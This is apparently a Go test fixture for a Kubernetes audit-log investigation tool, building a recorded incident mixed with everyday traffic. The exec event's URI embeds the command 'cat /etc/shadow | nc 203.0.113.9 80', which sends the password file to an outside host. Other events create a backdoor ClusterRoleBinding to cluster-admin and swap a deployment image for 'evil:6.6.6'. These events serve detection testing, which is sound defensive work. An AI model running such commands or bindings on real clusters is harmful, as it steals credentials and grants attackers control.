// Package investigatetest holds a recorded incident — an attack and the
// everyday traffic around it — for the tests of the investigations and of
// what serves them (the HTTP API, the CLI).
package investigatetest

import (
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail/internal/audit"
)

// T0 is when the incident starts.
var T0 = time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)

// Event builds one audit event.
type Event struct {
	// Ev is the event built.
	Ev audit.Event
}

// Req starts a request at second sec of the incident.
func Req(sec float64, user, verb, uri string) *Event {
	ts := T0.Add(time.Duration(sec * float64(time.Second)))
	return &Event{Ev: audit.Event{
		Kind: "Event", APIVersion: audit.APIVersionV1,
		Level:                    audit.LevelMetadata,
		AuditID:                  fmt.Sprintf("id-%s-%s-%g", user, verb, sec),
		Stage:                    audit.StageResponseComplete,
		RequestURI:               uri,
		Verb:                     verb,
		User:                     audit.UserInfo{Username: user},
		SourceIPs:                []string{"10.0.0.5"},
		UserAgent:                "kubectl/v1.37.2 (linux/amd64) kubernetes/abc",
		RequestReceivedTimestamp: audit.MicroTime{Time: ts},
		StageTimestamp:           audit.MicroTime{Time: ts.Add(3 * time.Millisecond)},
	}}
}

func (b *Event) Obj(resource, ns, name string) *Event {
	b.Ev.ObjectRef = &audit.ObjectReference{Resource: resource, Namespace: ns, Name: name, APIVersion: "v1"}
	if strings.Contains(resource, "/") {
		b.Ev.ObjectRef.Resource, b.Ev.ObjectRef.Subresource, _ = strings.Cut(resource, "/")
	}
	return b
}

func (b *Event) Group(g string) *Event { b.Ev.ObjectRef.APIGroup = g; return b }

func (b *Event) Groups(g ...string) *Event { b.Ev.User.Groups = g; return b }

func (b *Event) Code(c int32, decision string) *Event {
	b.Ev.ResponseStatus = &audit.Status{Code: c}
	if c >= 400 {
		b.Ev.ResponseStatus.Status = "Failure"
	}
	if decision != "" {
		b.Ev.Annotations = map[string]string{"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""}
	}
	return b
}

func (b *Event) Stage(s audit.Stage) *Event {
	b.Ev.Stage = s
	if s == audit.StageRequestReceived {
		b.Ev.StageTimestamp = b.Ev.RequestReceivedTimestamp
		b.Ev.ResponseStatus = nil
	}
	return b
}

func (b *Event) ID(id string) *Event      { b.Ev.AuditID = id; return b }
func (b *Event) IPs(ips ...string) *Event { b.Ev.SourceIPs = ips; return b }
func (b *Event) As(user string) *Event {
	b.Ev.ImpersonatedUser = &audit.UserInfo{Username: user}
	return b
}
func (b *Event) NoUser() *Event              { b.Ev.User = audit.UserInfo{}; return b }
func (b *Event) Level(l audit.Level) *Event  { b.Ev.Level = l; return b }
func (b *Event) ReqBody(body string) *Event  { b.Ev.RequestObject = json.RawMessage(body); return b }
func (b *Event) RespBody(body string) *Event { b.Ev.ResponseObject = json.RawMessage(body); return b }

// The bodies of deployment web as it is created, patched and updated.
const (
	deployV1 = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"production","uid":"u-1","resourceVersion":"10","generation":1,"managedFields":[{"manager":"kubectl-create"}]},"spec":{"replicas":1,"template":{"spec":{"containers":[{"name":"web","image":"web:1.0"}]}}}}`
	deployV2 = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"production","uid":"u-1","resourceVersion":"11","generation":2,"managedFields":[{"manager":"kubectl-patch"}]},"spec":{"replicas":1,"template":{"spec":{"containers":[{"name":"web","image":"evil:6.6.6"}]}}}}`
	deployV3 = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"production","uid":"u-1","resourceVersion":"12","generation":3},"spec":{"replicas":5,"template":{"spec":{"containers":[{"name":"web","image":"evil:6.6.6"}]}}}}`
	statusOK = `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"web","group":"apps","kind":"deployments","uid":"u-1"}}`
	deleteOp = `{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/__internal","propagationPolicy":"Background"}`
)

// Incident is an attack and the everyday traffic around it.
func Incident() []*Event {
	sec := func(ns, name string) string { return "/api/v1/namespaces/" + ns + "/secrets/" + name }
	execURI := "/api/v1/namespaces/production/pods/web/exec?command=sh&command=-c&command=" + url.QueryEscape("cat /etc/shadow | nc 203.0.113.9 80") + "&container=app&stdin=true&stdout=true&tty=true"
	return []*Event{
		// A controller reads a secret: system, not flagged.
		Req(1, "system:serviceaccount:kube-system:token-controller", "get", sec("kube-system", "sa-token")).Obj("secrets", "kube-system", "sa-token").Code(200, "allow"),
		// alice creates, reads and deletes secret important. The delete
		// is logged at two stages.
		Req(10, "alice", "create", "/api/v1/namespaces/production/secrets").Obj("secrets", "production", "important").Groups("developers", "system:authenticated").Code(201, "allow"),
		Req(11, "alice", "get", sec("production", "important")).Obj("secrets", "production", "important").Groups("developers", "system:authenticated").Code(200, "allow"),
		Req(12, "alice", "delete", sec("production", "important")).Obj("secrets", "production", "important").Groups("developers", "system:authenticated").Stage(audit.StageRequestReceived).ID("del-1"),
		Req(12, "alice", "delete", sec("production", "important")).Obj("secrets", "production", "important").Groups("developers", "system:authenticated").Code(200, "allow").ID("del-1"),
		// Someone deletes a secret of the same name elsewhere.
		Req(13, "bob", "delete", sec("staging", "important")).Obj("secrets", "staging", "important").Code(200, "allow"),
		// bob is refused, three times.
		Req(20, "bob", "list", "/api/v1/namespaces/production/secrets").Obj("secrets", "production", "").Code(403, "forbid"),
		Req(21, "bob", "get", "/api/v1/namespaces/production/pods/web").Obj("pods", "production", "web").Code(403, "forbid"),
		Req(22, "bob", "get", "/api/v1/namespaces/production/pods/db").Obj("pods", "production", "db").Code(403, "forbid"),
		// An unknown token: no user, only a ResponseStarted stage.
		Req(23, "", "get", "/version").NoUser().Code(401, "").Stage(audit.StageResponseStarted).IPs("198.51.100.7"),
		// admin impersonates alice.
		Req(30, "admin", "list", "/api/v1/namespaces/production/pods").Obj("pods", "production", "").As("alice").Code(200, "allow"),
		// admin execs into pod web: WebSocket (get, two stages), then SPDY.
		Req(40, "admin", "get", execURI).Obj("pods/exec", "production", "web").Stage(audit.StageResponseStarted).Code(101, "allow").ID("exec-ws"),
		Req(40, "admin", "get", execURI).Obj("pods/exec", "production", "web").Code(101, "allow").ID("exec-ws"),
		Req(41, "admin", "create", execURI).Obj("pods/exec", "production", "web").Code(101, "allow"),
		Req(42, "admin", "create", "/api/v1/namespaces/production/pods/web/portforward?ports=8080&ports=9090").Obj("pods/portforward", "production", "web").Code(101, "allow"),
		Req(43, "admin", "get", "/api/v1/namespaces/production/pods/web/attach?container=app&stdin=true").Obj("pods/attach", "production", "web").Code(101, "allow"),
		// RBAC: a backdoor binding to cluster-admin, a wildcard role, and
		// a binding logged at Metadata level.
		Req(50, "mallory", "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings").Obj("clusterrolebindings", "", "backdoor").Group("rbac.authorization.k8s.io").
			Level(audit.LevelRequestResponse).Code(201, "allow").
			ReqBody(`{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"backdoor"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"eve"}]}`).
			RespBody(`{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"backdoor","uid":"b-1"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"eve"},{"kind":"ServiceAccount","name":"default","namespace":"ci"}]}`),
		Req(51, "mallory", "create", "/apis/rbac.authorization.k8s.io/v1/namespaces/production/roles").Obj("roles", "production", "all").Group("rbac.authorization.k8s.io").
			Level(audit.LevelRequest).Code(201, "allow").
			ReqBody(`{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"all"},"rules":[{"apiGroups":[""],"resources":["*"],"verbs":["get"]},{"apiGroups":[""],"resources":["users"],"verbs":["impersonate","bind"]}]}`),
		Req(52, "admin", "delete", "/apis/rbac.authorization.k8s.io/v1/namespaces/production/rolebindings/view").Obj("rolebindings", "production", "view").Group("rbac.authorization.k8s.io").Code(200, "allow"),
		// A read of RBAC is not a change.
		Req(53, "admin", "get", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/backdoor").Obj("clusterrolebindings", "", "backdoor").Group("rbac.authorization.k8s.io").Code(200, "allow"),
		// Deployment web: created, patched, updated (Request level: only
		// the request body), a conflict, then deleted.
		Req(60, "admin", "create", "/apis/apps/v1/namespaces/production/deployments").Obj("deployments", "production", "web").Group("apps").Level(audit.LevelRequestResponse).Code(201, "allow").ReqBody(deployV1).RespBody(deployV1),
		Req(61, "mallory", "patch", "/apis/apps/v1/namespaces/production/deployments/web").Obj("deployments", "production", "web").Group("apps").Level(audit.LevelRequestResponse).Code(200, "allow").
			ReqBody(`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"evil:6.6.6"}]}}}}`).RespBody(deployV2),
		Req(62, "mallory", "update", "/apis/apps/v1/namespaces/production/deployments/web").Obj("deployments", "production", "web").Group("apps").Level(audit.LevelRequest).Code(200, "allow").ReqBody(deployV3),
		Req(63, "admin", "update", "/apis/apps/v1/namespaces/production/deployments/web").Obj("deployments", "production", "web").Group("apps").Level(audit.LevelRequest).Code(409, "allow").ReqBody(deployV1),
		Req(64, "admin", "get", "/apis/apps/v1/namespaces/production/deployments/web").Obj("deployments", "production", "web").Group("apps").Code(200, "allow"),
		Req(65, "admin", "patch", "/apis/apps/v1/namespaces/production/deployments/web/status").Obj("deployments/status", "production", "web").Group("apps").Level(audit.LevelRequest).Code(200, "allow").ReqBody(`{"status":{"readyReplicas":5}}`),
		Req(66, "admin", "delete", "/apis/apps/v1/namespaces/production/deployments/web").Obj("deployments", "production", "web").Group("apps").Level(audit.LevelRequestResponse).Code(200, "allow").ReqBody(deleteOp).RespBody(statusOK),
		// Traffic that claims 192.168.1.100 in X-Forwarded-For, and
		// traffic that really comes from it.
		Req(70, "eve", "list", "/api/v1/namespaces/production/secrets").Obj("secrets", "production", "").IPs("192.168.1.100", "10.0.0.9").Code(200, "allow"),
		Req(71, "eve", "get", "/api/v1/namespaces/production/configmaps/settings").Obj("configmaps", "production", "settings").IPs("192.168.1.100").Code(200, "allow"),
		Req(72, "eve", "get", "/api/v1/namespaces/production/configmaps/other").Obj("configmaps", "production", "other").IPs("::ffff:192.168.1.7").Code(200, "allow"),
		// A client reuses one Audit-ID for two different requests.
		Req(80, "alice", "delete", "/api/v1/namespaces/production/configmaps/a").Obj("configmaps", "production", "a").Code(200, "allow").ID("chosen"),
		Req(81, "alice", "delete", "/api/v1/namespaces/production/configmaps/b").Obj("configmaps", "production", "b").Code(200, "allow").ID("chosen"),
	}
}

// Records encodes events and decodes them as the store receives them.
func Records(evs []*Event) ([]audit.Record, error) {
	dec := audit.NewDecoder(audit.Limits{})
	var recs []audit.Record
	for _, b := range evs {
		raw, err := json.Marshal(&b.Ev)
		if err != nil {
			return nil, err
		}
		var problem error
		dec.DecodeBody("incident", raw, func(r audit.Record) { recs = append(recs, r) }, func(p audit.Problem) { problem = fmt.Errorf("%s", p.String()) })
		if problem != nil {
			return nil, problem
		}
	}
	return recs, nil
}

// RecordedLog returns the path of the incident a real kube-apiserver
// recorded (testdata/incident/incident.log.gz beside package investigate;
// its README.md says how), for the tests of every package that shows it.
func RecordedLog() string {
	_, file, _, ok := runtime.Caller(0)
	if !ok {
		panic("BUG: runtime.Caller gives no file")
	}
	return filepath.Join(filepath.Dir(file), "..", "testdata", "incident", "incident.log.gz")
}

// RecordedLines returns the lines of RecordedLog, uncompressed, failing t
// when they cannot be read.
func RecordedLines(t testing.TB) []byte {
	t.Helper()
	f, err := os.Open(RecordedLog())
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatalf("%s: %v", RecordedLog(), err)
	}
	b, err := io.ReadAll(zr)
	if err != nil {
		t.Fatalf("%s: %v", RecordedLog(), err)
	}
	return b
}
